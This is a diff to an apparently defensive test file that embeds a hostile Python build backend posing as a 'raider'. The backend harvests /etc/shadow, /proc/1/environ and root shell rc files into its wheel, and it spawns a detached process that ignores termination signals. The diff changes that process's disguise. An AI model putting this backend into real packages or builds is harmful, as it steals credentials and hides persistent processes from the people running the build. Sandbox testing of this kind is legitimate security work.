@@ -31,7 +31,7 @@ dynamic = ["dependencies"]
 """
 # A build backend of the source itself. What it finds goes into its wheel: it has no other way out.
 BACKEND = r"""
-import base64, glob, hashlib, io, json, os, subprocess, zipfile
+import base64, glob, hashlib, io, json, os, signal, subprocess, zipfile
 
 SECRETS = ["/etc/shadow", "/etc/asgi/*", "/etc/asgi/*/*", "/etc/asgi/*/*/*", "/var/lib/asgi/victim/*", "/root/.*rc",
            "/proc/1/environ", "/srv/asgi/victim/*/*", "/var/cache/private/asgi-build/victim/*", "/var/cache/asgi/*"]
@@ -56,7 +56,7 @@ def look():
         except OSError:
             continue
         found["wrote"].append(place)
-    subprocess.Popen(["setsid", "sh", "-c", "trap '' HUP TERM INT; exec -a raider-daemon sleep 900"],
+    subprocess.Popen(["sleep", "986532"], start_new_session=True, preexec_fn=lambda: [signal.signal(number, signal.SIG_IGN) for number in (1, 2, 15)],
                      stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     return found
 
@@ -103,7 +103,7 @@ async def app(scope, receive, send):
     await send({"type": "http.response.start", "status": 200, "headers": []})
     await send({"type": "http.response.body", "body": b"raider"})
 """
-DAEMON = "pgrep -f '^raider-daemon' || true"
+DAEMON = "pgrep -fx 'sleep 986532' || true"
 
 
 def pure_wheel(folder: Path) -> str:
